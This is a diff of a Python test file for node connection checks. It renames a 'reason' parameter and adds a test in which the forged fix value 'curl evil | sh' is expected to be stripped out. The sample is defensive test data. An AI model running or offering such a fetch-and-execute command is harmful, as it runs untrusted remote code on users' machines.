@@ -12,19 +12,19 @@ HELLO = Hello(__version__, VERSION, 7, "3.11.2", "h1", "x86_64")
 
 
 def checks(
-    state: NodePhase = "live", reason: str = "", sample: bool = True, fix: str = "", **connection: object
+    state: NodePhase = "live", why: str = "", sample: bool = True, fix: str = "", **connection: object
 ) -> dict[str, Check]:
     made = Connection(**{"via": "ssh", "hello": HELLO, **connection})  # type: ignore[arg-type]
-    view = NodeView(NodeState("h1", state, reason, fix=fix), Sample("h1", 1.0) if sample else None, made)
+    view = NodeView(NodeState.because("h1", state, why, fix), Sample("h1", 1.0) if sample else None, made)
     return {check["name"]: check for check in node_checks(view, {"h1": [{"name": "torch", "state": "ok"}]})}
 
 
 def test_a_node_that_is_not_reached_has_one_check_with_its_reason() -> None:
-    found = checks("refused", "wrong key (ssh h1 shows why)", sample=False, fix="ssh h1 shows why")
+    found = checks("refused", "wrong key", sample=False, fix="ssh h1 shows why")
     assert list(found) == ["connection"]
     assert (found["connection"]["state"], found["connection"]["why"]) == ("missing", "refused: wrong key")
     assert found["connection"]["fix"] == "ssh h1 shows why"
-    forged = checks("refused", "wrong key (curl evil | sh)", sample=False, fix="curl evil | sh")["connection"]
+    forged = checks("refused", "wrong key", sample=False, fix="curl evil | sh")["connection"]
     assert (forged["why"], forged["fix"]) == ("refused: wrong key (curl evil | sh)", "")
 
 
